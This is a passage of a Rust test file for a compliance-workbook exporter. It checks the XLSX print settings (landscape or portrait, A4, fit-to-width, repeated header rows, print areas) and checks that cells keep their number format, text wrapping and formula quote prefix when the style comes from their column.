                    assert!(rows.iter().any(|r| !text(&r["Unit"]).is_empty()), "{dir} {sheet}: an empty Unit column");
                }
            }
        }
    }
    let federal = workbook("gap", "examples/us-federal-sample");
    assert_eq!(federal.header("Systems")[..2], ["Name", "Unit"], "a workspace with units keeps the column");
}

/// The parts of an XLSX archive a printer reads: `xl/workbook.xml` (the sheets and the defined names) and each
/// `xl/worksheets/sheetN.xml`, the sheets in the workbook's order.
fn archive_parts(bytes: &[u8]) -> (String, Vec<String>) {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut part = |name: &str| -> Option<String> {
        let mut entry = zip.by_name(name).ok()?;
        let mut text = String::new();
        std::io::Read::read_to_string(&mut entry, &mut text).unwrap();
        Some(text)
    };
    let workbook = part("xl/workbook.xml").unwrap();
    let sheets = (1..).map_while(|n| part(&format!("xl/worksheets/sheet{n}.xml"))).collect();
    (workbook, sheets)
}

/// The value of attribute `name` of the first element `<tag …>` of `xml`.
fn attribute(xml: &str, tag: &str, name: &str) -> Option<String> {
    let start = xml.find(&format!("<{tag} "))?;
    let element = &xml[start..start + xml[start..].find('>')?];
    let at = element.find(&format!(" {name}=\""))? + name.len() + 3;
    Some(element[at..at + element[at..].find('"')?].to_string())
}

/// The workbooks had no print setup: a 22-column plan printed across 5-6 pages per band of rows, without headers.
/// Every sheet now prints landscape when wide, scaled to a few pages wide at most (one for most sheets; a register
/// that would print at a third of its size on one page takes more, its first column repeated), its header row on
/// every page.
#[test]
fn every_sheet_prints_at_a_readable_width_with_its_headers_repeated() {
    for dir in EXAMPLES {
        for verb in ["gap", "soa", "plan"] {
            for audience in ["client", "practitioner"] {
                let what = format!("{dir} {verb} ({audience})");
                let bytes = run(&[verb, dir, "--as-of", AS_OF, "--format", "xlsx", "--audience", audience]);
                let names = Book::read(bytes.clone()).names;
                let (workbook, sheets) = archive_parts(&bytes);
                assert_eq!(sheets.len(), names.len(), "{what}: one worksheet part per sheet");
                for (n, (name, xml)) in names.iter().zip(&sheets).enumerate() {
                    let orientation = attribute(xml, "pageSetup", "orientation");
                    assert!(
                        matches!(orientation.as_deref(), Some("landscape" | "portrait")),
                        "{what}, {name}: no page orientation: {orientation:?}"
                    );
                    assert_eq!(attribute(xml, "pageSetup", "paperSize").as_deref(), Some("9"), "{what}, {name}: A4");
                    assert_eq!(attribute(xml, "pageSetUpPr", "fitToPage").as_deref(), Some("1"), "{what}, {name}");
                    // One page wide (1 is the default, written by omission), or a few for a wide register so that
                    // it prints at a readable size; as many pages tall as it takes.
                    let wide = attribute(xml, "pageSetup", "fitToWidth");
                    let pages: u32 = wide.as_deref().map_or(1, |w| w.parse().unwrap());
                    assert!((1..=3).contains(&pages), "{what}, {name}: fitToWidth {wide:?}");
                    if name == "Plan" {
                        // 22 columns on one page printed at about a third of their size.
                        assert!(pages >= 2, "{what}: the plan register prints on {pages} page(s) wide");
                        assert!(
                            workbook.contains(&format!(
                                "<definedName name=\"_xlnm.Print_Titles\" localSheetId=\"{n}\">Plan!$A:$A,"
                            )),
                            "{what}: the first column repeats"
                        );
                    }
                    assert_eq!(attribute(xml, "pageSetup", "fitToHeight").as_deref(), Some("0"), "{what}, {name}");
                    let titles = format!("<definedName name=\"_xlnm.Print_Titles\" localSheetId=\"{n}\">");
                    let repeated = workbook.split(&titles).nth(1).and_then(|rest| rest.split('<').next());
                    assert!(
                        repeated.is_some_and(|r| r.ends_with("!$1:$1")),
                        "{what}, {name}: its first row is not repeated on every page: {repeated:?}"
                    );
                    // A register as wide as the plan (22 columns) prints landscape.
                    if ["Plan", "Statement of Applicability", "Requirements", "Findings"].contains(&name.as_str()) {
                        assert_eq!(orientation.as_deref(), Some("landscape"), "{what}, {name}");
                    }
                }
                // The plan's action IDs (for re-import) stay on the sheet, last, but out of the printed area.
                if let Some(n) = names.iter().position(|name| name == "Plan") {
                    let book = Book::read(bytes.clone());
                    let header = book.header("Plan");
                    assert_eq!(header.last().unwrap(), "Reference (for re-import)", "{what}");
                    let area = format!("<definedName name=\"_xlnm.Print_Area\" localSheetId=\"{n}\">");
                    let area = workbook.split(&area).nth(1).and_then(|rest| rest.split('<').next());
                    let last_printed = column_letter(header.len() - 2);
                    assert!(
                        area.is_some_and(|a| a.starts_with("Plan!$A$1:$") && a.contains(&format!("${last_printed}$"))),
                        "{what}: the print area should end at column {last_printed}, before the reference: {area:?}"
                    );
                }
            }
        }
    }
}

/// The letter of the column at 0-based `index` (`A`, …, `Z`, `AA`, …).
fn column_letter(index: usize) -> String {
    let mut n = index + 1;
    let mut out = Vec::new();
    while n > 0 {
        out.push(b'A' + u8::try_from((n - 1) % 26).unwrap());
        n = (n - 1) / 26;
    }
    out.reverse();
    String::from_utf8(out).unwrap()
}

/// The part `name` of an XLSX archive, as text.
fn archive_part(bytes: &[u8], name: &str) -> String {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut entry = zip.by_name(name).unwrap();
    let mut text = String::new();
    std::io::Read::read_to_string(&mut entry, &mut text).unwrap();
    text
}

/// The elements `<tag …>` inside the first `<list …>…</list>` of `xml`, in order.
fn elements<'x>(xml: &'x str, list: &str, tag: &str) -> Vec<&'x str> {
    let start = xml.find(&format!("<{list}")).unwrap();
    let end = start + xml[start..].find(&format!("</{list}>")).unwrap();
    xml[start..end].split(&format!("<{tag}")).skip(1).collect()
}

/// A register's cells are written without a format of their own where they look as their column does, the column
/// carrying the format (a large workbook spent much of its time looking each cell's format up). Whichever way a cell
/// gets its style, it must look as before: a score with one decimal, wrapped long text, and text that looks like a
/// formula with Excel's quote prefix.
#[test]
fn register_cells_keep_their_look_when_their_column_carries_the_format() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("ws");
    copy_dir(std::path::Path::new(EXAMPLES[0]), &dir);
    let assessment_file = dir.join("assessment.yaml");
    let assessment = std::fs::read_to_string(&assessment_file).unwrap();
    let owner_line = assessment.lines().find(|l| l.trim_start().starts_with("owner:")).unwrap().to_string();
    let indent = &owner_line[..owner_line.len() - owner_line.trim_start().len()];
    std::fs::write(&assessment_file, assessment.replacen(&owner_line, &format!("{indent}owner: '+1'"), 1)).unwrap();
    let bytes =
        run(&["gap", dir.to_str().unwrap(), "--as-of", AS_OF, "--format", "xlsx", "--audience", "practitioner"]);
    let styles = archive_part(&bytes, "xl/styles.xml");
    let xfs = elements(&styles, "cellXfs", "xf");
    let strings = archive_part(&bytes, "xl/sharedStrings.xml");
    let plus_one = elements(&strings, "sst", "si").iter().position(|si| si.contains(">+1</t>")).unwrap().to_string();
    let sheet = &archive_parts(&bytes).1[1];
    // Each column's own style, for the cells that carry none.
    let mut column_style = std::collections::HashMap::new();
    for col in sheet.split("<col ").skip(1).map(|c| &c[..c.find("/>").unwrap()]) {
        let col = format!("<col {col}>");
        let bound = |name: &str| attribute(&col, "col", name).unwrap().parse::<usize>().unwrap();
        for c in bound("min")..=bound("max") {
            column_style.insert(column_letter(c - 1), attribute(&col, "col", "style"));
        }
    }
    let (mut scores, mut titles, mut quoted) = (0, 0, 0);
    for cell in sheet.split("<c r=\"").skip(1) {
        let reference = &cell[..cell.find('"').unwrap()];
        let column = reference.trim_end_matches(|c: char| c.is_ascii_digit());
        let row: u32 = reference[column.len()..].parse().unwrap();
        if row == 1 {
            continue;
        }
        let tag = &cell[..cell.find('>').unwrap()];
        let style = attribute(&format!("<c {tag}>"), "c", "s").or_else(|| column_style[column].clone());
        let xf = xfs[style.map_or(0, |s| s.parse::<usize>().unwrap())];
        let value = cell.split("<v>").nth(1).map(|v| &v[..v.find("</v>").unwrap()]);
        match column {
            // Score (%): one decimal.
            "F" => {
                let id = attribute(&format!("<xf{xf}"), "xf", "numFmtId").unwrap();
                assert!(styles.contains(&format!("numFmtId=\"{id}\" formatCode=\"0.0\"")), "{reference}: {xf}");
                scores += 1;
            }
            // Title: wrapped, at the top.
            "D" => {
                assert!(xf.contains("wrapText=\"1\"") && xf.contains("vertical=\"top\""), "{reference}: {xf}");
                titles += 1;
            }
            _ if value == Some(plus_one.as_str()) && tag.contains("t=\"s\"") => {
                assert!(xf.contains("quotePrefix=\"1\""), "{reference}: {xf}");
                quoted += 1;
            }
            _ => {}
        }
    }
    assert!(scores > 0 && titles > 0 && quoted > 0, "{scores} scores, {titles} titles, {quoted} quoted owners");
}
